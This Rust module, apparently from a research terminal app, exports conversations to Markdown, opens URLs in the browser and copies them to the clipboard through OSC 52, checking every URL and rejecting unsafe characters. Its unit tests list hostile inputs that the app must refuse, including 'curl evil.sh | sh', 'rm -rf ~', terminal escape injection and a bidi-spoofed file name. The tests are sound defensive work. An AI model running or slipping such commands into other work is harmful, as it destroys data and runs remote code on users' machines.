//! Side effects the app asks for: exporting the conversation to Markdown, opening a URL in the
//! browser (detached), and copying to the clipboard through the terminal (OSC 52).

use std::io::{self, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::SystemTime;

use crossterm::clipboard::CopyToClipboard;

use super::state::Turn;
use crate::model::citations::Attribution;
use crate::render::sanitize::{is_unsafe, sanitize_line};

/// The conversation as one Markdown document: each turn's question, then its answer with footnotes.
pub fn conversation_markdown(turns: &[Turn]) -> String {
    let mut out = String::from("# Research session\n");
    for (i, turn) in turns.iter().enumerate() {
        out.push('\n');
        match &turn.question {
            Some(q) => out.push_str(&format!("## You: {}\n\n", sanitize_line(q))),
            None => out.push_str(&format!("## Turn {}\n\n", i + 1)),
        }
        let attribution = Attribution::resolve(&turn.session, true);
        out.push_str(&crate::render::markdown::render(
            &turn.session,
            &attribution,
        ));
        if let Some(structured) = &turn.session.structured_output {
            let pretty = serde_json::to_string_pretty(&structured.content).unwrap_or_default();
            out.push_str("\n**Structured output**\n\n```json\n");
            out.push_str(&crate::render::sanitize::sanitize(&pretty));
            out.push_str("\n```\n");
        }
        if let Some(error) = &turn.session.error {
            out.push_str(&format!("\n> Error: {}\n", sanitize_line(error)));
        } else if turn.session.completion.is_none() {
            out.push_str("\n> (incomplete)\n");
        }
        if let Some(checkpoint) = turn.session.checkpoint_id() {
            // Not an HTML comment: a hostile id could close it and smuggle markup into the export.
            out.push_str(&format!(
                "\nCheckpoint: `{}`\n",
                sanitize_line(checkpoint).replace('`', "'")
            ));
        }
    }
    out
}

/// Write the export into `dir` under a fresh name; returns the path.
pub fn export_to(dir: &Path, turns: &[Turn]) -> io::Result<PathBuf> {
    let stem = format!(
        "research-tui-export-{}",
        crate::local::timestamp::compact_stamp(SystemTime::now())
    );
    let text = conversation_markdown(turns);
    for n in 1..100 {
        let name = if n == 1 {
            format!("{stem}.md")
        } else {
            format!("{stem}-{n}.md")
        };
        let path = dir.join(name);
        match std::fs::OpenOptions::new()
            .write(true)
            .create_new(true)
            .open(&path)
        {
            Ok(mut file) => {
                file.write_all(text.as_bytes())?;
                return Ok(path);
            }
            Err(e) if e.kind() == io::ErrorKind::AlreadyExists => continue,
            Err(e) => return Err(e),
        }
    }
    Err(io::Error::other("too many exports with the same timestamp"))
}

/// Export into the current directory, else `$XDG_DATA_HOME/research-tui` (or
/// `~/.local/share/research-tui`).
pub fn export(turns: &[Turn]) -> io::Result<PathBuf> {
    std::env::current_dir()
        .and_then(|dir| export_to(&dir, turns))
        .or_else(|_| {
            let dir = crate::local::config::data_dir();
            std::fs::create_dir_all(&dir)?;
            export_to(&dir, turns)
        })
}

/// Only web URLs are handed to the browser opener or copied: `http` or `https` with a host, and not
/// one control, whitespace, bidi or invisible character (any of which could turn a paste into a
/// command, or make the URL read as another).
pub fn is_web_url(url: &str) -> bool {
    let lower = url.to_ascii_lowercase();
    (lower.starts_with("https://") || lower.starts_with("http://"))
        && !url
            .chars()
            .any(|c| c.is_control() || c.is_whitespace() || is_unsafe(c))
        && reqwest::Url::parse(url).is_ok_and(|parsed| parsed.host_str().is_some())
}

/// Open `url` with the platform opener, detached (no terminal, no waiting in the caller). The returned
/// handle's thread reports a failure exit through `on_failure`.
pub fn open_url(url: &str, on_failure: impl FnOnce(String) + Send + 'static) -> Result<(), String> {
    if !is_web_url(url) {
        return Err("not opening: only http(s) URLs".into());
    }
    let program = if cfg!(target_os = "macos") {
        "open"
    } else {
        "xdg-open"
    };
    let mut command = Command::new(program);
    command
        .arg(url)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    #[cfg(unix)]
    {
        use std::os::unix::process::CommandExt;
        command.process_group(0);
    }
    let mut child = command
        .spawn()
        .map_err(|e| format!("cannot run {program}: {e}"))?;
    std::thread::spawn(move || match child.wait() {
        Ok(status) if status.success() => {}
        Ok(status) => on_failure(format!("{program} failed ({status})")),
        Err(e) => on_failure(format!("{program}: {e}")),
    });
    Ok(())
}

/// Put `url` on the system clipboard through the terminal, when it is a web URL ([`is_web_url`]):
/// a source's URL comes from the network, and a pasted one must not run anything.
pub fn copy_to_clipboard(out: &mut impl Write, url: &str) -> io::Result<()> {
    if !is_web_url(url) {
        return Err(io::Error::new(
            io::ErrorKind::InvalidInput,
            "only an http(s) URL without control or invisible characters can be copied",
        ));
    }
    write_clipboard(out, url)
}

/// One OSC 52 sequence (its payload is base64, so the text cannot inject escapes), flushed.
fn write_clipboard(out: &mut impl Write, text: &str) -> io::Result<()> {
    crossterm::execute!(out, CopyToClipboard::to_clipboard_from(text))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn copying_writes_one_osc_52_sequence_with_rfc_4648_base64() {
        for (input, expected) in [
            ("", ""),
            ("f", "Zg=="),
            ("fo", "Zm8="),
            ("foo", "Zm9v"),
            ("foob", "Zm9vYg=="),
            ("fooba", "Zm9vYmE="),
            ("foobar", "Zm9vYmFy"),
            ("hi", "aGk="),
        ] {
            let mut out = Vec::new();
            write_clipboard(&mut out, input).unwrap();
            // ESC ] 52 ; c ; <base64> ST: crossterm ends the OSC with the string terminator
            // (ESC backslash), which terminals take like the BEL this used to write.
            assert_eq!(out, format!("\x1b]52;c;{expected}\x1b\\").as_bytes());
        }
    }

    #[test]
    fn only_web_urls_are_opened() {
        assert!(is_web_url("https://example.com/a?b=c"));
        assert!(!is_web_url("file:///etc/passwd"));
        assert!(!is_web_url("https://x.com/\x1b]"));
        assert!(!is_web_url("-h"));
        assert!(!is_web_url("https://"));
    }

    #[test]
    fn only_a_clean_web_url_is_copied() {
        let mut out = Vec::new();
        copy_to_clipboard(&mut out, "https://example.com/a?b=c#d").unwrap();
        assert_eq!(
            out,
            b"\x1b]52;c;aHR0cHM6Ly9leGFtcGxlLmNvbS9hP2I9YyNk\x1b\\".as_slice()
        );
        for hostile in [
            "https://x.com/\x1b]52;c;ZWNobyBoaQ==\x07",
            "https://x.com/a\x07b",
            "https://x.com/\u{9b}31m",
            "https://x.com/\rcurl evil.sh | sh",
            "https://x.com/a\nrm -rf ~",
            "https://x.com/\u{202E}txt.exe",
            "https://x.com/\u{200B}",
            "javascript:alert(1)",
            "ftp://x.com/file",
            "echo pwned",
        ] {
            let mut out = Vec::new();
            assert!(copy_to_clipboard(&mut out, hostile).is_err(), "{hostile:?}");
            assert!(out.is_empty(), "{hostile:?} reached the terminal");
        }
    }

    #[test]
    fn export_writes_every_turn_with_footnotes() {
        let mut turn = Turn::new(Some("What happened?".into()));
        turn.apply_events(vec![
            crate::model::event::AgentEvent::AnswerDelta {
                message_id: None,
                text: "Revenue rose.".into(),
            },
            crate::model::event::AgentEvent::Complete {
                checkpoint_id: Some("ck-1".into()),
                consumption: vec![],
            },
        ]);
        let dir = tempfile::tempdir().unwrap();
        let path = export_to(dir.path(), &[turn]).unwrap();
        let text = std::fs::read_to_string(path).unwrap();
        assert!(text.contains("## You: What happened?"));
        assert!(text.contains("Revenue rose."));
        assert!(text.contains("Checkpoint: `ck-1`"));
    }
}
